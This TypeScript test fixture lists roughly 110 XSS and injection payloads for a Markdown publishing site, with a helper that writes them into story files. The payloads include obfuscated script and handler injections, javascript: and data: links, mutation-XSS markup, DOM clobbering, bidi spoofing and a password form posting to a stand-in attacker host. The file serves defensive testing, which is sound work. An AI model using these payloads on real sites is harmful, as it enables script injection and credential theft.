/**
 * What a source could hold to harm who reads it. `trip()` is the tripwire: no attack may call it. `attacker.invalid`
 * is another host: no attack may reach it.
 */
type Attack = {
  /** What it tries, in a few words. */
  name: string
  /** Front matter in place of the harmless one. */
  front?: Record<string, string>
  /** Markdown below the front matter. */
  body?: string
  /** The rule by which the content is refused, where it must not be published at all. */
  refused?: string
}

const far = 'https://attacker.invalid'

export const attacks: Attack[] = [
  // Scripts and handlers in raw HTML.
  { name: 'script', body: '<script>trip()</script>' },
  { name: 'script of another host', body: `<script src="${far}/x.js"></script>` },
  { name: 'script of no protocol', body: '<script src=//attacker.invalid/x.js></script>' },
  { name: 'script as a module', body: '<script type="module">trip()</script>' },
  { name: 'script in capitals, never closed', refused: 'html-open', body: '<ScRiPt>trip()' },
  { name: 'script within a script’s tag', body: '<scr<script>ipt>trip()</scr</script>ipt>' },
  { name: 'script after a NUL', body: '<scr\u0000ipt>trip()</scr\u0000ipt>' },
  { name: 'script in a paragraph', body: 'Words <script>trip()</script> words.' },
  {
    name: 'script inside a list and a table',
    body: '- a <script>trip()</script>\n\n| a |\n|---|\n| <script>trip()</script> |',
  },
  { name: 'script behind a comment', body: '<!-- --!><script>trip()</script> -->' },
  { name: 'script behind CDATA', body: '<![CDATA[><script>trip()</script>]]>' },
  { name: 'script behind a processing instruction', body: '<?x ><script>trip()</script>?>' },
  { name: 'import map', body: '<script type="importmap">{"imports":{"x":"/x.js"}}</script>' },
  {
    name: 'speculation rules',
    body: `<script type="speculationrules">{"prefetch":[{"urls":["${far}/"]}]}</script>`,
  },
  { name: 'picture that fails', body: '<img src=x onerror=trip()>' },
  { name: 'picture that fails, with slashes for spaces', body: '<img/src=x/onerror=trip()>' },
  { name: 'picture that fails, quoted oddly', body: '<img src=`x` onerror="&#116;rip()">' },
  { name: 'body with a handler', body: '<body onload=trip() onpageshow=trip()>' },
  { name: 'details that open', body: '<details open ontoggle=trip()><summary>x</summary></details>' },
  {
    name: 'focus by itself',
    body: '<input autofocus onfocus=trip()><a href="#" autofocus onfocus=trip() tabindex=1>x</a>',
  },
  { name: 'moving text', body: '<marquee onstart=trip()>x</marquee>' },
  {
    name: 'animation ends',
    body: '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=trip()>x</b>',
  },
  {
    name: 'sound and film',
    body: '<video><source onerror=trip()></video><audio src=x onerror=trip()></audio>',
  },
  {
    name: 'pointer handlers on common elements',
    body: '<p onclick=trip() onpointerenter=trip()>x <b onmouseover=trip()>y</b></p>',
  },
  { name: 'custom element', body: '<x-y onclick=trip() is="z">x</x-y>' },
  // Links that run.
  { name: 'javascript link', body: '[x](javascript:trip())' },
  { name: 'javascript link in capitals', body: '[x](JaVaScRiPt:trip())' },
  { name: 'javascript link in entities', body: '[x](&#106;avascript:trip())' },
  { name: 'javascript link in hexadecimal entities', body: '[x](&#x6A;&#x61;vascript&colon;trip())' },
  { name: 'javascript link with a tab', body: '[x](java&Tab;script:trip())' },
  { name: 'javascript link with a line break', body: '[x](java&NewLine;script:trip())' },
  { name: 'javascript link after a control', body: '[x](&#1;javascript:trip())' },
  { name: 'javascript link after blanks', body: '[x](<   javascript:trip()>)' },
  { name: 'javascript link by reference', body: '[x]\n\n[x]: javascript:trip()' },
  { name: 'javascript autolink', body: '<javascript:trip()>' },
  { name: 'javascript link in raw HTML', body: '<a href="javascript:trip()">x</a>' },
  { name: 'javascript link in raw HTML, broken up', body: '<a href=" &#14; java\n\tscript:trip()">x</a>' },
  { name: 'javascript link percent-encoded', body: '[x](javascript:%74rip())' },
  {
    name: 'vbscript, data and blob links',
    body: '[x](vbscript:trip()) [y](data:text/html,<script>trip()</script>) [z](blob:https://x/y)',
  },
  { name: 'data link in base64', body: '[x](data:text/html;base64,PHNjcmlwdD50cmlwKCk8L3NjcmlwdD4=)' },
  {
    name: 'file and view-source links',
    body: '[x](file:///etc/passwd) [y](view-source:https://x) <filesystem:x>',
  },
  {
    name: 'javascript link on a map',
    body: '<map name=m><area href="javascript:trip()" shape=default></map><img usemap=#m src=x>',
  },
  { name: 'ping of another host', body: `<a href="/" ping="${far}/ping" target=_blank rel=opener>x</a>` },
  {
    name: 'javascript in a footnote',
    body: 'A[^1]\n\n[^1]: [x](javascript:trip()) <img src=x onerror=trip()>',
  },
  // Foreign content, frames, plug-ins.
  { name: 'svg', body: '<svg onload=trip()><script>trip()</script></svg>' },
  { name: 'svg link', body: '<svg><a xlink:href="javascript:trip()"><text y=20>x</text></a></svg>' },
  {
    name: 'svg animation of an address',
    body: '<svg><a><animate attributeName=href values=javascript:trip() /><text y=20>x</text></a></svg>',
  },
  {
    name: 'svg use',
    body: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>trip()</script></svg>#x"></svg>`,
  },
  {
    name: 'svg foreign object',
    body: '<svg><foreignObject><iframe srcdoc="<script>parent.trip()</script>"></iframe></foreignObject></svg>',
  },
  {
    name: 'math that turns into markup',
    refused: 'html-open',
    body: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=trip()&gt;">',
  },
  {
    name: 'noscript that turns into markup',
    body: '<noscript><p title="</noscript><img src=x onerror=trip()>"></noscript>',
  },
  {
    name: 'form in a form',
    refused: 'html-open',
    body: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=trip()>',
  },
  {
    name: 'select that turns into markup',
    body: '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=trip()>">',
  },
  { name: 'frame', body: `<iframe src="${far}/"></iframe>` },
  { name: 'frame with a document', body: '<iframe srcdoc="<script>parent.trip()</script>"></iframe>' },
  { name: 'frame with javascript', body: '<iframe src="javascript:parent.trip()"></iframe>' },
  {
    name: 'object and embed',
    body: '<object data="javascript:trip()"></object><embed src="data:text/html,<script>parent.trip()</script>">',
  },
  {
    name: 'applet, portal, fenced frame',
    body: `<applet code=x></applet><portal src="${far}/"></portal><fencedframe src="${far}/"></fencedframe>`,
  },
  // Loading and leaving.
  { name: 'remote picture in Markdown', body: `![a picture](${far}/p.png)` },
  { name: 'remote picture of no protocol', body: '![a picture](//attacker.invalid/p.png)' },
  {
    name: 'remote picture in raw HTML',
    body: '<img src=//attacker.invalid/p.png srcset="//attacker.invalid/q.png 2x" loading=eager alt=x>',
  },
  {
    name: 'remote picture with backslashes',
    body: '<img src="\\\\attacker.invalid/p.png" alt=x> <img src="/\\attacker.invalid/p.png" alt=x> <img src="https:attacker.invalid/p.png" alt=x>',
  },
  {
    name: 'picture as data',
    body: '![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="trip()"/>)',
  },
  {
    name: 'picture with sources',
    body: `<picture><source srcset="${far}/p.png"><img src="${far}/p.png" alt=x></picture>`,
  },
  { name: 'film with a poster', body: `<video poster="${far}/p.png" src="${far}/v.mp4" autoplay></video>` },
  {
    name: 'table with a background',
    body: `<table background="${far}/p.png"><tr><td background="${far}/p.png">x</td></tr></table>`,
  },
  { name: 'refresh', body: `<meta http-equiv="refresh" content="0;url=${far}/">` },
  { name: 'refresh with javascript', body: '<meta http-equiv="refresh" content="0;url=javascript:trip()">' },
  {
    name: 'another policy',
    body: `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'none'">`,
  },
  { name: 'base', body: `<base href="${far}/"><base target=_blank>` },
  {
    name: 'links that load',
    body: `<link rel=stylesheet href="${far}/x.css"><link rel=prefetch href="${far}/"><link rel=preload as=image href="${far}/p.png"><link rel=dns-prefetch href="${far}">`,
  },
  {
    name: 'style sheet',
    body: `<style>@import "${far}/x.css"; body { display: none } p::after { content: url(${far}/p.png) }</style>`,
  },
  { name: 'style attribute', body: `<p style="position:fixed;inset:0;background:url(${far}/p.png)">x</p>` },
  {
    name: 'font element and old attributes',
    body: `<font color=red face=x size=7>x</font><p align=right bgcolor=red width=9999 height=9999>y</p>`,
  },
  {
    name: 'form that sends elsewhere',
    body: `<form action="${far}/" id=f><input name=password type=password><button formaction="javascript:trip()">Log in</button></form><button form=f>x</button>`,
  },
  {
    name: 'popover and commands',
    body: '<button popovertarget=x>x</button><div popover id=x>y</div><dialog open>z</dialog><button commandfor=x command=show-modal>w</button>',
  },
  {
    name: 'meta that opens the page to an app',
    body: `<meta name="apple-itunes-app" content="app-argument=${far}"><link rel=manifest href="${far}/m.json">`,
  },
  // Clobbering and spoofing of what our page and its scripts use.
  {
    name: 'names of Next’s globals',
    body: '<a id=__next_f>x</a><a id=TURBOPACK name=TURBOPACK>y</a><form id=__NEXT_DATA__><input name=props></form>',
  },
  {
    name: 'heading that slugs to a global',
    body: '# __next_f\n\n## TURBOPACK\n\n### constructor\n\n#### body',
  },
  {
    name: 'names of the document',
    body: '<img name=body src=x><img name=getElementById src=x><form name=querySelector><input id=attributes></form><a id=defaultView>x</a>',
  },
  {
    name: 'marks that are not ours',
    body: '<a class="mark" data-q="in-a-strange-world-k7m2" data-n="1" id="main" href="https://example.org/">x</a><article data-apparatus="x" id="q-x">y</article>',
  },
  {
    name: 'attributes in directives',
    body: ':span[x]{.mark #main onclick=trip() style="position:fixed" data-q=x}\n\n::leaf{onclick=trip() src=javascript:trip()}\n\n:::aside\nx\n:::',
  },
  {
    name: 'attributes in a directive of ours',
    body: ':::aside{#main .mark onmouseover=trip()}\nx\n:::',
    refused: 'directive-attribute',
  },
  {
    name: 'template and slot',
    body: '<template shadowrootmode=open><script>trip()</script><slot></slot></template><div slot=x>y</div>',
  },
  {
    name: 'closing what we opened',
    body: '</p></div></article></section></main></body></html><h1>Another page</h1><script>trip()</script>',
  },
  { name: 'elements that swallow the rest', refused: 'html-open', body: '<plaintext>x' },
  { name: 'text area never closed', refused: 'html-open', body: '<textarea><title><xmp><noembed>x' },
  { name: 'unclosed attribute', body: '<img alt="' },
  { name: 'comment never closed', body: 'a <!-- b' },
  {
    name: 'mark-up in code',
    body: '`<img src=x onerror=trip()>`\n\n```html onclick=trip()\n<script>trip()</script>\n```',
  },
  {
    name: 'mark-up in a picture’s words',
    body: `![<img src=x onerror=trip()>" onerror="trip()](${far}/p.png "\\" onerror=\\"trip()")`,
  },
  { name: 'mark-up in a link’s title', body: '[x](https://example.org "\\"><script>trip()</script>")' },
  {
    name: 'keyboard keys taken over',
    body: '<a href="https://example.org" accesskey=j tabindex=1 autofocus>x</a><div contenteditable=true inert hidden>y</div>',
  },
  {
    name: 'words hidden from all but machines',
    body: '<span hidden aria-hidden=true aria-label="not these words" role=alert>x</span>',
  },
  // Direction.
  {
    name: 'override of direction in a quotation',
    body: 'She said: “We will \u202Enot pay them.” Then she left the room at once.',
  },
  { name: 'isolates never closed', body: 'a \u2066b \u2067c \u202Bd \u202De, and then the words after it.' },
  { name: 'closers without openers', body: 'a \u2069\u2069\u202C\u202C b, and then the words after it.' },
  // Front matter.
  { name: 'title', front: { title: '</title></script><script>trip()</script><img src=x onerror=trip()>' } },
  { name: 'title that ends data', front: { title: '<!--<script>"}</script><script>trip()</script>' } },
  { name: 'title in the other direction', front: { title: 'Words \u202Ebefore after' } },
  { name: 'outlet', front: { outlet: '"><img src=x onerror=trip()>' } },
  { name: 'author', front: { author: '<svg onload=trip()>' } },
  { name: 'note', front: { note: '<script>trip()</script>[x](javascript:trip())' } },
  { name: 'address with a quote mark', front: { url: `https://example.org/"onmouseover="trip()` } },
  { name: 'address with a user', front: { url: 'https://example.org@attacker.invalid/' } },
  { name: 'prototype in the title', front: { title: '__proto__' } },
  { name: 'javascript as the address', front: { url: 'javascript:trip()' }, refused: 'url' },
  {
    name: 'javascript as the address, after blanks',
    front: { url: ' \tjavascript:trip()//https://x' },
    refused: 'url',
  },
  { name: 'data as the address', front: { url: 'data:text/html,<script>trip()</script>' }, refused: 'url' },
  { name: 'address of no protocol', front: { url: '//attacker.invalid/' }, refused: 'url' },
  { name: 'mark-up as the language', front: { lang: '"><script>trip()</script>' }, refused: 'lang' },
  {
    name: 'mark-up as the date',
    front: { published: '2023-04-24"><script>trip()</script>' },
    refused: 'date',
  },
  { name: 'mark-up as the id', front: { id: 'x"><script>trip()</script>' }, refused: 'id' },
  { name: 'a key for the prototype', front: { __proto__x: 'x', constructor: 'x' }, refused: 'key-unknown' },
]

/** Attacks that are published, with the address of their source in the story. */
export const published = attacks
  .filter((attack) => attack.refused === undefined)
  .map((attack, index) => ({ ...attack, slug: `source-${index + 1}` }))

export const attackStorySlug = 'attacks'

/** The text that every attacking source ends with, after what it tries. */
export const lastWords = 'These are the last words of the source.'

/** A quotation that every source carries, so that each attack stands next to marks of ours. */
const shared = '“Nobody who reads this page will come to any harm,” said Ada Trip.'

/** Files of a story in which every source is one attack, and the story itself is another. */
export function attackStory(): { path: string; text: string }[] {
  const story = {
    title: 'Attacks <script>trip()</script>',
    summary: '"><img src=x onerror=trip()>',
    date: '2026-01-02',
  }
  const intro =
    '<script>trip()</script>\n\n[x](javascript:trip()) <img src=//attacker.invalid/p.png onerror=trip()>'
  return [
    { path: `${attackStorySlug}/story.md`, text: `${frontMatter(story)}${intro}\n` },
    ...published.map((attack) => ({
      path: `${attackStorySlug}/${attack.slug}.md`,
      text: sourceOf(attack, attack.slug),
    })),
  ]
}

/** The Markdown file of one attack. */
export function sourceOf(attack: Attack, slug: string): string {
  const front = { id: slug, title: `Source ${slug}`, outlet: `Outlet ${slug}`, ...attack.front }
  return `${frontMatter(front)}The first words.\n\n${shared}\n\n${attack.body ?? 'Words.'}\n\n${lastWords}\n`
}

/** Front matter; JSON strings are YAML. */
function frontMatter(values: Record<string, string>): string {
  const lines = Object.entries(values).map(([key, value]) => `${key}: ${JSON.stringify(value)}`)
  return `---\n${lines.join('\n')}\n---\n\n`
}
